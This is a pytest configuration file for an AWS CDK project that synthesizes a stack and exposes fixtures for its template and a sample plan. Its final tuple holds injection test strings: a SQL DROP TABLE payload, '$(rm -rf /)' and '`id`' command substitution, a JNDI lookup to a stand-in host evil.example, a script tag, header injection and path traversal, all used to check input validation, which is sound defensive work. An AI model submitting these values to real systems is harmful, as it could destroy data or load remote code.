from __future__ import annotations

import json
import os
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from localcloud.synth import node_bin_dir

if TYPE_CHECKING:
    from aws_cdk.assertions import Template

ROOT = Path(__file__).resolve().parent.parent
SAMPLE_PLAN = ROOT / "plans" / "sample-plan.json"

# The CDK library (jsii) runs on the first `node` on PATH: the venv's, as `make` and synth use, set before
# any test module imports aws_cdk.
if node_bin_dir():
    os.environ["PATH"] = f"{node_bin_dir()}{os.pathsep}{os.environ.get('PATH', '')}"


@pytest.fixture
def sample_plan_document() -> dict[str, Any]:
    return json.loads(SAMPLE_PLAN.read_text())


@pytest.fixture(scope="session")
def synthesized(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The stack synthesized once per test worker, exactly as `cdk synth` would."""
    from localcloud.synth import synthesize

    return synthesize(outdir=tmp_path_factory.mktemp("cdk.out"))


@pytest.fixture(scope="session")
def template(synthesized: Path) -> dict[str, Any]:
    return json.loads(synthesized.read_text())


@pytest.fixture(scope="session")
def cfn(template: dict[str, Any]) -> Template:
    """The synthesized template (app.py in a child process, as `cdk synth` runs it) for aws_cdk.assertions."""
    from aws_cdk.assertions import Template

    return Template.from_json(template)


# Injection-like text for property tests: each holds a character no identifier pattern of the inputs allows.
INJECTIONS = (
    "'; DROP TABLE runs; --",
    "$(rm -rf /)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "a\r\nX-Injected: yes",
    "line\nbreak",
    "nul\x00byte",
    "`id`",
    "a|b",
    "..\\..\\windows",
)
